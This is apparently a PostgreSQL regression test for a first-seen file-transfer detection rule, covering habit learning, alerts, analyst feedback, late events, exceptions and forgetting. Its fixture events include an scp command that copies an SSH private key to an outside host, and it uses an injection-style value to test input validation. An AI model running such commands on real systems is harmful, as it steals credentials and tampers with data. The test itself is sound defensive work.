-- Rules that know habits: what is new makes an alert, once; what is usual makes none; closing teaches; late events.
\set ON_ERROR_ROLLBACK on
BEGIN;
SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
SET LOCAL timezone = 'UTC';
SET LOCAL datestyle = 'ISO';
\set rule '''first-seen-file-transfer'''
CREATE FUNCTION pg_temp.launch(at timestamptz, host text, command text, parent text DEFAULT '/usr/sbin/cron') RETURNS void LANGUAGE sql AS $$
	INSERT INTO transfer_detect.events (timestamp, agent_id, host_name, host_os_type, event_type, event_action, process_name,
		process_executable, process_command_line, process_parent_executable)
	VALUES (at, 'agent of ' || host, host, 'linux', '{start}', '{exec}', split_part(command, ' ', 1), '/usr/bin/' || split_part(command, ' ', 1), command, parent)
$$;
CREATE FUNCTION pg_temp.runs(as_of timestamptz) RETURNS TABLE (window_to time, matched bigint, created bigint, extended bigint, known bigint) LANGUAGE sql AS $$
	SELECT r.window_to::time, r.events_matched, r.alerts_created, r.alerts_extended, r.known FROM transfer_detect.run('first-seen-file-transfer', as_of) AS r
$$;
CREATE VIEW pg_temp.filed AS
SELECT group_key ->> 'habit.space' AS space, group_key ->> 'habit.scope' AS scope, group_key -> 'habit.key' AS key, status, severity, risk_score,
	event_count, host_names, (SELECT count(*) FROM alert_events(a.id)) AS documents
FROM alerts AS a ORDER BY first_event, id;

-- a week of habits, learned without alerts
SELECT pg_temp.launch(d, 'web-' || h || '.corp.example', 'rsync -a /srv/ nas.corp.example:/in')
FROM generate_series('2026-11-10 03:00Z'::timestamptz, '2026-11-19 03:00Z', '1 day') AS d, generate_series(1, 3) AS h;
SELECT pg_temp.launch('2026-11-15 04:00Z', 'web-1.corp.example', 'sftp partner@203.0.113.7');
SELECT count(*) FROM habits;
SELECT * FROM learn(:rule, '2026-11-10', '2026-11-20');
SELECT * FROM learn(:rule, '2026-11-12', '2026-11-20');
SELECT space, scope, key, first_seen, last_seen, days, alert_id, loud FROM habits ORDER BY space COLLATE "C", scope, key;
SELECT name, role, set_by, first_seen, last_seen FROM fleet_hosts ORDER BY name;
SELECT count(*) FROM alerts;

-- the habit again, and an outside host that is new for web-2; web-1 knows it
SELECT pg_temp.launch('2026-11-20 03:00Z', 'web-1.corp.example', 'rsync -a /srv/ nas.corp.example:/in'),
	pg_temp.launch('2026-11-20 03:10Z', 'web-1.corp.example', 'sftp partner@203.0.113.7'),
	pg_temp.launch('2026-11-20 03:20Z', 'web-2.corp.example', 'scp /home/bob/.ssh/id_rsa bob@203.0.113.9:', '/usr/bin/python3'),
	pg_temp.launch('2026-11-20 03:30Z', 'web-2.corp.example', 'scp /srv/a bob@203.0.113.9:', '/usr/bin/python3');
SELECT * FROM pg_temp.runs('2026-11-20 04:00Z');
SELECT * FROM pg_temp.filed;
SELECT unnest(reasons) AS reason FROM alerts;
-- nothing new: what belongs to the open alert goes on it
SELECT pg_temp.launch('2026-11-20 04:30Z', 'web-2.corp.example', 'scp /srv/b bob@203.0.113.9:', '/usr/bin/python3');
SELECT * FROM pg_temp.runs('2026-11-20 05:00Z');
SELECT * FROM pg_temp.filed;
SELECT key, loud FROM habits WHERE alert_id IS NOT NULL ORDER BY loud, space;
-- evaluated again, nothing changes
SELECT window_to::time, alerts_created, alerts_extended, known FROM backfill(:rule, '2026-11-20 03:00Z', '2026-11-20 05:00Z');

-- benign: it is usual
UPDATE alerts SET status = 'closed', close_reason = 'benign';
SELECT pg_temp.launch('2026-11-20 05:30Z', 'web-2.corp.example', 'scp /srv/c bob@203.0.113.9:', '/usr/bin/python3');
SELECT * FROM pg_temp.runs('2026-11-20 06:00Z');
SELECT space, loud, taught FROM habits WHERE alert_id IS NOT NULL ORDER BY space;
-- for this host only, until an analyst says more
SELECT pg_temp.launch('2026-11-20 06:30Z', 'web-3.corp.example', 'scp /srv/a bob@203.0.113.9:', '/usr/bin/python3');
SELECT * FROM pg_temp.runs('2026-11-20 07:00Z');
SELECT space, scope, status, risk_score FROM pg_temp.filed;
DO $$
BEGIN
	PERFORM transfer_detect.teach((SELECT max(id) FROM transfer_detect.alerts), 'role');
EXCEPTION WHEN object_not_in_prerequisite_state THEN
	RAISE NOTICE 'it is open';
END
$$;
UPDATE alerts SET status = 'closed', close_reason = 'false_positive' WHERE status = 'open';
SELECT teach((SELECT max(id) FROM alerts), 'planet');
SELECT teach((SELECT max(id) FROM alerts), 'role');
SELECT pg_temp.launch('2026-11-20 07:30Z', 'web-4.corp.example', 'scp /srv/a bob@203.0.113.9:', '/usr/bin/python3'),
	pg_temp.launch('2026-11-20 07:31Z', 'db-1.corp.example', 'scp /srv/a bob@203.0.113.9:', '/usr/bin/python3');
SELECT * FROM pg_temp.runs('2026-11-20 08:00Z');
SELECT space, scope, status, risk_score FROM pg_temp.filed WHERE status = 'open';
-- a true positive stays loud: each further event makes an alert, or goes on one
UPDATE alerts SET status = 'closed', close_reason = 'true_positive' WHERE status = 'open';
SELECT pg_temp.launch('2026-11-20 08:30Z', 'db-1.corp.example', 'scp /srv/a bob@203.0.113.9:', '/usr/bin/python3');
SELECT * FROM pg_temp.runs('2026-11-20 09:00Z');
SELECT space, scope, status, event_count FROM pg_temp.filed WHERE scope LIKE 'db%';

-- a late event is the first after all; the alert of what it also had is superseded
SELECT pg_temp.launch('2026-11-20 09:30Z', 'app-1.corp.example', 'rsync -a /srv/ nas.corp.example:/in', '/opt/new');
SELECT * FROM pg_temp.runs('2026-11-20 10:00Z');
SELECT pg_temp.launch('2026-11-20 09:20Z', 'app-1.corp.example', 'rsync -a /srv/ 198.51.100.4:/in', '/opt/new');
SELECT * FROM pg_temp.runs('2026-11-20 11:00Z');
SELECT a.group_key ->> 'habit.space' AS space, status, close_reason, tags, event_count FROM alerts AS a WHERE host_names = '{app-1.corp.example}' ORDER BY id;

-- exceptions: at the group stage an event is learned and makes no alert
INSERT INTO exceptions (rule_id, condition) VALUES (:rule, 'process.parent.executable == "/opt/known"');
SELECT pg_temp.launch('2026-11-20 11:30Z', 'app-1.corp.example', 'rsync -a /srv/ 198.51.100.5:/in', '/opt/known');
SELECT r.alerts_created, r.excepted FROM run(:rule, '2026-11-20 12:00Z') AS r;
SELECT count(*) FROM habits WHERE key = '{198.51.100.5}' AND days = 1;

-- after 30 days it is new again, and what is older is forgotten
SELECT pg_temp.launch('2026-12-21 11:30Z', 'web-1.corp.example', 'sftp partner@203.0.113.7');
SET client_min_messages = error;	-- whether these times lie in the future depends on the day of the test
UPDATE checkpoints SET checkpoint = '2026-12-21 11:00Z';
SELECT * FROM pg_temp.runs('2026-12-21 12:00Z');
SELECT forget(:rule, '2026-12-27');
SELECT space, scope, key, days, taught FROM habits WHERE NOT loud ORDER BY 1, 2, 3;
SELECT forget(:rule, '2027-02-01');
RESET client_min_messages;
SELECT space, scope, taught FROM habits ORDER BY 1, 2;

-- spaces are checked, and part of the rule's version
INSERT INTO habit_spaces (rule_id, space, expressions, scope, reason) VALUES ('nobody', 'x', '{host.name}', 'host', '');
INSERT INTO habit_spaces (rule_id, space, expressions, scope, reason) VALUES (:rule, 'x', '{"host.name) | DROP (x"}', 'host', '');
INSERT INTO habit_spaces (rule_id, space, expressions, scope, reason, fires_when) VALUES (:rule, 'x', '{host.name}', 'host', '', 'host.name');
SELECT version FROM rules WHERE rule_id = :rule;
UPDATE habit_spaces SET weight = 10 WHERE rule_id = :rule AND space = 'parent';
UPDATE habit_spaces SET weight = 10 WHERE rule_id = :rule AND space = 'parent';
SELECT r.version, jsonb_path_query(v.habits, '$[*] ? (@.space == "parent").weight') FROM rules AS r JOIN rule_versions AS v USING (rule_id, version) WHERE rule_id = :rule;
SELECT learn('unusual-file-transfer-utility-launched', '2026-11-10', '2026-11-20');
SELECT rule_id, habits, learning FROM rule_health WHERE rule_id = :rule;
ROLLBACK;
